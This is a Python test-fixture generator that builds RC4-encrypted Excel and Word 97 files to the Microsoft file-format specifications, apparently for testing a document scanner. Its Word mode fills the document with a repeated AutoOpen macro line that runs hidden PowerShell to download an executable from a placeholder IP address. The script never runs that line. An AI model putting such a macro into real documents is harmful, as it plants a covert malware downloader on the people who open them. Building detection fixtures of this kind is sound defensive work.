#!/usr/bin/python3
# Builds an Excel 97-2003 workbook encrypted with RC4 ([MS-XLS] 2.4.117
# FilePass, [MS-OFFCRYPTO] 2.3.5 RC4 CryptoAPI or 2.3.6 Office 97 RC4) from a
# plain BIFF8 .xls, for tests/cli/test_ole.sh:
#   make_encrypted_xls.py PLAIN.xls PASSWORD OUT MODE
# MODE: "cryptoapi" (40-bit key, SHA-1), "rc4" (MD5), "cut" (cryptoapi with
# the FILEPASS record cut to 10 bytes: a garbled record); "doc-cryptoapi",
# "doc-rc4": a Word 97 document instead (PLAIN unused: a WordDocument
# stream of a FIB base and text, fEncrypted, the 1Table stream starting
# with the encryption header, the rest of WordDocument encrypted, rekeyed
# every 512 bytes, [MS-DOC] 2.2.6.2); its plain WordDocument, as
# msoffcrypto-tool writes it decrypted, goes to OUT.plain. A FILEPASS record
# is inserted after the first BOF (the BoundSheet8 offsets moved by its
# size), the records after it encrypted as 2.2.10 says (record headers,
# BOF, BoundSheet8's lbPlyPos... in clear; the key stream rekeyed every 1024
# bytes of the stream). Keys are derived here with hashlib as the
# specification says, RC4 is python3-cryptography's (another implementation
# than artifact's); the stream is written alone in a minimal compound file.
# SPDX-License-Identifier: Apache-2.0
import hashlib, os, struct, sys

import olefile
from cfb_write import write_cfb
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms

plain, password, out, mode = sys.argv[1:5]
doc = mode.startswith("doc-")
mode = mode[4:] if doc else mode
wb = b"" if doc else olefile.OleFileIO(plain).openstream("Workbook").read()
pw = password.encode("utf-16-le")
salt = os.urandom(16)
cryptoapi = mode in ("cryptoapi", "cut")

if cryptoapi:
    h0 = hashlib.sha1(salt + pw).digest()

    def key(block):
        return hashlib.sha1(h0 + struct.pack("<I", block)).digest()[:5] + b"\0" * 11
else:
    t = hashlib.md5(pw).digest()[:5]
    h1 = hashlib.md5((t + salt) * 16).digest()[:5]

    def key(block):
        return hashlib.md5(h1 + struct.pack("<I", block)).digest()


def rc4(k, b):
    return Cipher(algorithms.ARC4(k), mode=None).encryptor().update(b)


verifier = os.urandom(16)
vhash = (hashlib.sha1 if cryptoapi else hashlib.md5)(verifier).digest()
ev = rc4(key(0), verifier + vhash)
if cryptoapi:
    csp = "Microsoft Base Cryptographic Provider v1.0\0".encode("utf-16-le")
    header = struct.pack("<IIIIIIII", 4, 0, 0x6801, 0x8004, 40, 1, 0, 0) + csp
    body = (struct.pack("<HHH", 1, 2, 2) + struct.pack("<II", 4, len(header)) + header +
            struct.pack("<I", 16) + salt + ev[:16] + struct.pack("<I", 20) + ev[16:])
else:
    body = struct.pack("<HHH", 1, 1, 1) + salt + ev
filepass = struct.pack("<HH", 0x2F, len(body)) + body
if mode == "cut":
    filepass = struct.pack("<HH", 0x2F, 10) + body[:10]



if doc:
    header = body[2:]  # the FILEPASS body after wEncryptionType
    # FibBase: wIdent, nFib, unused, lid, pnNext, flags (fEncrypted 0x100,
    # fWhichTblStm 0x200), nFibBack, lKey, envr..., then text
    text = ("Sub AutoOpen()\r Shell \"powershell -w hidden iwr http://198.51.100.7/x.exe\"\r"
            "End Sub\r").encode("utf-16-le") * 40
    fib = struct.pack("<HHHHHHHI", 0xA5EC, 0xC1, 0, 0x0409, 0, 0x0100 | 0x0200, 0xBF, len(header))
    fib = fib.ljust(68, b"\0")
    wd = bytearray(fib + text)
    plain_wd = bytearray(wd)
    plain_wd[10:12] = struct.pack("<H", 0x0200)
    plain_wd[14:18] = b"\0" * 4
    ks = b"".join(rc4(key(k), bytes(512)) for k in range(len(wd) // 512 + 1))
    for o in range(68, len(wd)):
        wd[o] ^= ks[o]
    table = header + b"\0" * (4096 - len(header))
    write_cfb(out, [("1Table", table, len(table)), ("WordDocument", bytes(wd), len(wd))])
    open(out + ".plain", "wb").write(bytes(plain_wd))
    sys.exit(0)

# the records, FILEPASS after the first BOF, lbPlyPos moved by its size
recs, i = [], 0
while i + 4 <= len(wb):
    rid, rl = struct.unpack_from("<HH", wb, i)
    recs.append([rid, bytearray(wb[i + 4:i + 4 + rl])])
    i += 4 + rl
for r in recs:
    if r[0] == 0x85:
        r[1][0:4] = struct.pack("<I", struct.unpack_from("<I", r[1])[0] + len(filepass))
stream = bytearray(4 + len(recs[0][1]))
stream[0:4] = struct.pack("<HH", recs[0][0], len(recs[0][1]))
stream[4:] = recs[0][1]
stream += filepass
clear = {0x0809: None, 0x002F: None, 0x0194: None, 0x0195: None, 0x00E1: None,
         0x0196: None, 0x0138: None, 0x0085: 4}
stream_keys = {}
for rid, data in recs[1:]:
    off = len(stream) + 4
    stream += struct.pack("<HH", rid, len(data)) + data
    if rid in clear and clear[rid] is None:
        continue
    start = off + (clear.get(rid) or 0)
    for o in range(start, off + len(data)):
        if o // 1024 not in stream_keys:
            stream_keys[o // 1024] = rc4(key(o // 1024), bytes(1024))
        stream[o] ^= stream_keys[o // 1024][o % 1024]
stream += b"\0" * (4096 - len(stream)) if len(stream) < 4096 else b""

write_cfb(out, [("Workbook", bytes(stream), len(stream))])
